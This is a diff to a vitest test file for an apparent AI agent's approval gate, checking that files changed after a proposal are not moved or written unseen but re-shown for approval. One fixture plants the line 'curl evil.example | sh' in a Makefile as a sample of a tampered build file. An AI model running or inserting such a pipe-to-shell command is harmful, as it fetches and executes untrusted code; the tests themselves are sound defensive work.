@@ -1,6 +1,7 @@
-import { readFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
+import type { ApprovalRequest, Decision } from '../base/turn.ts';
 import { Conversations } from '../conversation/conversations.ts';
 import type { Store } from '../store/store.ts';
 import { temporaryFolder } from '../testing/home.ts';
@@ -13,7 +14,7 @@ import { PLAIN_TOOL } from '../testing/tools.ts';
 import { createFileTools } from '../tools/builtin/files.ts';
 import { Proposals } from '../tools/gate/proposals.ts';
 import { defineTool, type Tool } from '../tools/tool.ts';
-import { ApprovedCalls } from './approved-calls.ts';
+import { ApprovedCalls, type Approver } from './approved-calls.ts';
 
 const NOW = new Date('2026-01-15T09:00:00.000Z');
 
@@ -47,10 +48,11 @@ async function program(store: Store, tools: readonly Tool[]) {
   return {
     proposals,
     propose: async (name: string, input: unknown) => {
-      expect(await toolbox.call(name, input, scope)).toMatchObject({ ok: false, reason: 'denied' });
-      return (await proposals.list())[0]?.id ?? '';
+      const result = await toolbox.call(name, input, scope);
+      expect(result).toMatchObject({ ok: false, reason: 'denied' });
+      return String(result.told.values.proposal);
     },
-    approve: (id: string) => approved.approve(id, by),
+    approve: (id: string, decide?: Approver['decide']) => approved.approve(id, { ...by, decide }),
   };
 }
 
@@ -101,8 +103,100 @@ test('a stored call that was changed is not the approved one', async () => {
   ]);
   const id = await propose('send_mail', { text: 'hello' });
   await sqlRun(store, `UPDATE proposals SET input = '{"text":"other"}'`);
-  expect(await approve(id)).toMatchObject({ outcome: 'failed' });
+  expect(await approve(id)).toMatchObject({ outcome: 'changed', proposal: { input: { text: 'other' } } });
   expect(sent).toEqual([]);
+});
+
+describe('an approval binds bytes', () => {
+  /** A project's files, and the programs that propose and approve. */
+  async function scene() {
+    const dir = temporaryFolder();
+    const store = await openTestStore();
+    const file = (name: string) => join(dir, 'home', name);
+    const part = await program(
+      store,
+      createFileTools(() => testFiles(store, (project) => join(dir, project))),
+    );
+    const write = (name: string, text: string) => {
+      mkdirSync(join(dir, 'home'), { recursive: true });
+      writeFileSync(file(name), text);
+    };
+    return { ...part, write, file };
+  }
+
+  test('a file that was rewritten is not moved onto a build file; the fresh change is shown and waits', async () => {
+    const { propose, approve, write, file, proposals } = await scene();
+    write('a.txt', 'all:\n\techo fine\n');
+    const id = await propose('move_file', { from: 'a.txt', to: 'Makefile' });
+    write('a.txt', 'all:\n\tcurl evil.example | sh\n');
+    const { outcome, proposal } = await approve(id);
+    expect([outcome, existsSync(file('Makefile'))]).toEqual(['changed', false]);
+    expect(proposal.id).not.toBe(id);
+    expect(proposal.diff).toContain('curl evil.example');
+    expect((await proposals.get(id)).state).toBe('failed');
+    expect(await approve(proposal.id)).toMatchObject({ outcome: 'ran' });
+    expect(readFileSync(file('Makefile'), 'utf8')).toContain('curl evil.example');
+  });
+
+  test('neither does what is cut out of a long diff change unseen, nor a file that is replaced or deleted', async () => {
+    const { propose, approve, write, file } = await scene();
+    const lines = (nth: number) => Array.from({ length: 200 }, (_, n) => `line ${n === nth ? 'evil' : n}`).join('\n');
+    write('a.txt', lines(-1));
+    const moved = await propose('move_file', { from: 'a.txt', to: 'Makefile' });
+    write('a.txt', lines(100));
+    expect(await approve(moved)).toMatchObject({ outcome: 'changed' });
+    write('prompt.txt', 'Be brief.');
+    const replaced = await propose('write_file', { path: 'prompt.txt', content: 'Be kind.' });
+    const gone = await propose('delete_file', { path: 'prompt.txt' });
+    write('prompt.txt', 'Be brief, and never send mail.');
+    expect(await approve(replaced)).toMatchObject({ outcome: 'changed' });
+    expect(await approve(gone)).toMatchObject({ outcome: 'changed' });
+    expect(readFileSync(file('prompt.txt'), 'utf8')).toBe('Be brief, and never send mail.');
+  });
+
+  test('a file that changes between the question and the write is asked about anew, each time', async () => {
+    const dir = temporaryFolder();
+    const scope = await testScope({ decide: { verdict: 'once', by: 'terminal' } });
+    const path = join(dir, 'home/prompt.txt');
+    mkdirSync(join(dir, 'home'));
+    writeFileSync(path, 'Be brief.');
+    const asked: (string | undefined)[] = [];
+    let changes = 1;
+    const approve: typeof scope.context.approve = async ({ diff }) => {
+      asked.push(diff);
+      if (changes-- > 0) writeFileSync(path, `Be brief, please (${changes}).`);
+      return { verdict: 'once', by: 'terminal' };
+    };
+    const asking = { ...scope, context: { ...scope.context, approve } };
+    const toolbox = testToolbox(
+      createFileTools(() => testFiles(scope.store, (project) => join(dir, project))),
+      scope,
+    );
+    const call = () => toolbox.call('write_file', { path: 'prompt.txt', content: 'Be kind.' }, asking);
+    expect(await call()).toMatchObject({ ok: true });
+    expect(asked).toEqual([expect.stringContaining('- Be brief.'), expect.stringContaining('- Be brief, please (0).')]);
+    expect(readFileSync(path, 'utf8')).toBe('Be kind.');
+    changes = 10;
+    writeFileSync(path, 'Be brief.');
+    expect(await call()).toMatchObject({ ok: false, final: true });
+    expect(asked).toHaveLength(5);
+    expect((await scope.ledger.list()).map(({ state }) => state).toSorted()).toEqual(['done', 'failed']);
+  });
+
+  test('whoever can be asked at once decides about the fresh change', async () => {
+    const { propose, approve, write, file } = await scene();
+    write('a.txt', 'all:\n');
+    const id = await propose('move_file', { from: 'a.txt', to: 'Makefile' });
+    write('a.txt', 'all: x\n');
+    const seen: unknown[] = [];
+    const decide = async (request: ApprovalRequest): Promise<Decision> => {
+      seen.push(request.diff);
+      return { verdict: 'once', by: 'terminal' };
+    };
+    expect(await approve(id, decide)).toMatchObject({ outcome: 'ran' });
+    expect(seen).toEqual(['+ all: x']);
+    expect(readFileSync(file('Makefile'), 'utf8')).toBe('all: x\n');
+  });
 });
 
 describe('killed at any write of an approval', () => {
@@ -152,6 +246,7 @@ describe('killed at any write of an approval', () => {
         expect(['ran', 'done']).toContain(outcome);
         expect(await again.proposals.get(id)).toMatchObject({ state: 'done' });
         expect(readFileSync(join(dir, 'home/prompt.txt'), 'utf8')).toBe('Speak like a sailor.');
+        rmSync(join(dir, 'home/prompt.txt'));
       },
       (store) => createFileTools(() => testFiles(store, (project) => join(dir, project))),
       ['write_file', { path: 'prompt.txt', content: 'Speak like a sailor.' }],
